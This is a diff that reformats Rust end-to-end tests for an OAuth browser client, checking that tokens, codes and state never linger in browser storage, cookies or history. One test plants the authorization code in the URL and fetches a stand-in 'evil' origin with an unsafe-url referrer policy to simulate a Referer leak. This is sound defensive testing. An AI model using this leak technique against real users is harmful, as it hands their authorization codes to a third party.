@@ -7,14 +7,8 @@ use e2e::checks::secrets::{Finding, Secrets};
 use e2e::fixtures::world::World;
 use serde_json::json;
 
-const ALL_KINDS: [&str; 6] = [
-    "access_token",
-    "code",
-    "code_verifier",
-    "id_token",
-    "refresh_token",
-    "state",
-];
+const ALL_KINDS: [&str; 6] =
+    ["access_token", "code", "code_verifier", "id_token", "refresh_token", "state"];
 
 /// BRW-01, BRW-02, BRW-17, RES-05, REF-01, ARES-16, HV-44, HV-54: after sign-in, an API call and
 /// a refused one, no token, code, verifier or state is in any place of the browser.
@@ -26,18 +20,11 @@ async fn no_secret_is_left_anywhere() {
     world.expect_response("200").await;
 
     let secrets = Secrets::of(&world.traffic);
-    assert_eq!(
-        secrets.kinds(),
-        ALL_KINDS,
-        "the search knows what to look for"
-    );
+    assert_eq!(secrets.kinds(), ALL_KINDS, "the search knows what to look for");
     assert_eq!(secrets.found_in(&world.places().await), []);
 
     world.open("/request").await;
-    assert_eq!(
-        Secrets::of(&world.traffic).found_in(&world.places().await),
-        []
-    );
+    assert_eq!(Secrets::of(&world.traffic).found_in(&world.places().await), []);
 }
 
 /// BRW-02, AREQ-09, AREQ-18: while the person is at the server, sessionStorage holds one pending
@@ -47,26 +34,15 @@ async fn only_the_pending_authorization_waits() {
     let world = World::start().await;
     world.go_to_server().await;
     let requests = world.traffic.authorization_requests();
-    let state = requests
-        .last()
-        .and_then(|it| it.parameter("state"))
-        .expect("a state");
+    let state = requests.last().and_then(|it| it.parameter("state")).expect("a state");
 
     let stored = world.session_storage().await;
     assert_eq!(stored.len(), 1, "one record in sessionStorage");
     let (key, record) = &stored[0];
     assert!(key.contains(&state), "it is stored under its state");
-    assert!(
-        !record.contains("access_token") && !record.contains("eyJ"),
-        "it holds no token"
-    );
+    assert!(!record.contains("access_token") && !record.contains("eyJ"), "it holds no token");
 
-    world
-        .browser
-        .client
-        .back()
-        .await
-        .expect("the server's page again");
+    world.browser.client.back().await.expect("the server's page again");
     world.settle(Consent::Accept).await;
     world.expect_status("signed-in").await;
     assert_eq!(world.session_storage().await, [], "it was taken");
@@ -82,10 +58,7 @@ async fn the_search_finds_what_was_planted() {
     for (place, script) in PLANTS {
         world.browser.run(script, vec![json!(token)]).await;
         let found = secrets.found_in(&world.places().await);
-        let expected = Finding {
-            place: (*place).to_owned(),
-            kind: "access_token",
-        };
+        let expected = Finding { place: (*place).to_owned(), kind: "access_token" };
         assert!(found.contains(&expected), "nothing found in {place}");
     }
 }
@@ -98,20 +71,9 @@ async fn the_search_finds_a_referer() {
     let code = Secrets::of(&world.traffic).values("code")[0].clone();
     let leak = "return fetch(arguments[0], { referrerPolicy: 'unsafe-url' }).then(() => null)";
     let address = format!("/?{code}");
-    world
-        .browser
-        .run(
-            "history.replaceState(null, '', arguments[0])",
-            vec![json!(address)],
-        )
-        .await;
-    world
-        .browser
-        .run(leak, vec![json!(format!("{}/", world.evil.origin))])
-        .await;
-    let seen = world
-        .traffic
-        .matching(|it| it.server == "evil" && it.method == Method::GET);
+    world.browser.run("history.replaceState(null, '', arguments[0])", vec![json!(address)]).await;
+    world.browser.run(leak, vec![json!(format!("{}/", world.evil.origin))]).await;
+    let seen = world.traffic.matching(|it| it.server == "evil" && it.method == Method::GET);
     assert_eq!(seen.len(), 1);
     let found = Secrets::of(&world.traffic).found_in(&world.places().await);
     let found: Vec<&str> = found.iter().map(|finding| finding.place.as_str()).collect();
@@ -121,19 +83,10 @@ async fn the_search_finds_a_referer() {
 /// A place, and the script that puts its argument there.
 const PLANTS: &[(&str, &str)] = &[
     ("localStorage", "localStorage.setItem('x', arguments[0])"),
-    (
-        "sessionStorage",
-        "sessionStorage.setItem('x', arguments[0])",
-    ),
+    ("sessionStorage", "sessionStorage.setItem('x', arguments[0])"),
     ("indexedDB", PLANT_IN_DATABASE),
-    (
-        "caches",
-        "return caches.open('x').then((it) => it.put('/x', new Response(arguments[0])))",
-    ),
-    (
-        "document.cookie",
-        "document.cookie = 'x=' + arguments[0].split('.').pop()",
-    ),
+    ("caches", "return caches.open('x').then((it) => it.put('/x', new Response(arguments[0])))"),
+    ("document.cookie", "document.cookie = 'x=' + arguments[0].split('.').pop()"),
     ("cookies", "return null"),
     ("history.state", "history.replaceState(arguments[0], '')"),
     ("window.name", "window.name = arguments[0]"),
